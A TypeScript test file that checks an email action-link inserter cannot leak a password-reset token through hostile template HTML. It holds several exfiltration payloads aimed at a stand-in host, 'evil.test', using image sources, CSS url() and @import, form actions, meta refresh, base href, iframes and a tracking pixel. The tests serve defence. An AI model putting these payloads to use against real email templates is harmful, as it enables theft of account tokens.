import { describe, expect, it } from 'vitest'
import { hasActionPlaceholder, insertActionLink } from './action-link.ts'

const placeholders = { link: 'https://link.invalid/abc', button: 'https://button.invalid/def' }
const url = 'https://desk.example.com/set-password?token=SECRET'
const insertLink = (html: string) =>
  insertActionLink(html, { placeholders: placeholders, url, label: 'Set your password' })
const hrefs = (html: string) => [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1])

describe('action link of a sign-in email', () => {
  it("replaces a link to the placeholder with a button, using the template's text", () => {
    const html = insertLink(
      `<p>Hi</p><a href="${placeholders.link}" ping="https://evil.test" title="x">Come in</a>`,
    )
    expect(html).toMatch(/^<p>Hi<\/p><a href="https:\/\/desk[^"]*SECRET" style="[^"]*">Come in<\/a>$/)
  })

  it('replaces the button variable with a button, and the older link variable with a plain link', () => {
    expect(insertLink(`<p>${placeholders.button}</p>`)).toMatch(
      /<p><a href="[^"]*SECRET" style=".*">Set your password<\/a><\/p>/,
    )
    expect(insertLink(`<p>Copy ${placeholders.link} please</p>`)).toBe(
      `<p>Copy <a href="${url}">${url}</a> please</p>`,
    )
    expect(hrefs(insertLink(`<a href="${placeholders.link}">${placeholders.link}</a>`))).toEqual([url])
  })

  it.each([
    `<img src="https://evil.test/?${placeholders.link}">`,
    `<img src='https://evil.test/?${placeholders.link}'`,
    `<img alt="${placeholders.link}" src="https://evil.test/x.png">`,
    `<a href="https://evil.test/?next=${placeholders.link}">Click</a>`,
    `<a href="https://evil.test" title="${placeholders.button}">Click</a>`,
    `<div style="background:url(https://evil.test/?${placeholders.link})">x</div>`,
    `<table background="https://evil.test/?${placeholders.link}"><tr><td>x</td></tr></table>`,
    `<style>@import "https://evil.test/?${placeholders.link}"; p { background: url(https://evil.test/?${placeholders.link}) }</style><p>x</p>`,
    `<link rel="stylesheet" href="https://evil.test/?${placeholders.link}">`,
    `<form action="https://evil.test"><textarea name="q">${placeholders.link}</textarea><input type="submit"></form>`,
    `<form action="https://evil.test"><input name="q" value="${placeholders.link}"></form>`,
    `<video poster="https://evil.test/?${placeholders.link}"></video>`,
    `<iframe src="https://evil.test/?${placeholders.link}"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.test/?${placeholders.link}">`,
    `<base href="https://evil.test/"><p>x</p>`,
    `<svg><image href="https://evil.test/?${placeholders.link}"/></svg>`,
    `<img src="https://evil.test/open.png" width="1" height="1">`,
  ])('does not leak through %s', (template) => {
    const html = insertLink(`<p>Hello</p>${template}`)
    const elsewhere = hrefs(html).filter((href) => href !== url)
    expect(elsewhere.every((href) => !href?.includes('SECRET'))).toBe(true)
    expect(html.replaceAll(`href="${url}"`, '').replaceAll(`>${url}<`, '><')).not.toContain('SECRET')
    expect(html).not.toMatch(/<(?:img|form|link|style|iframe|video|base|meta|svg)\b[^>]*evil/)
    expect(html).not.toMatch(/url\(|@import|src="https/)
    expect(hrefs(html), 'the reader can follow it all the same').toContain(url)
  })

  it('is reported as missing where no reader would see it', () => {
    expect(hasActionPlaceholder(`<p>${placeholders.button}</p>`, placeholders)).toBe(true)
    expect(hasActionPlaceholder(`<a href=" ${placeholders.link} ">x</a>`, placeholders)).toBe(true)
    for (const html of [
      '<p>x</p>',
      `<img alt="${placeholders.link}">`,
      `<a href="https://evil.test/?${placeholders.link}">x</a>`,
      `<title>${placeholders.link}</title>`,
      `<!-- ${placeholders.link} -->`,
    ])
      expect(hasActionPlaceholder(`<p>Hello</p>${html}`, placeholders)).toBe(false)
  })
})
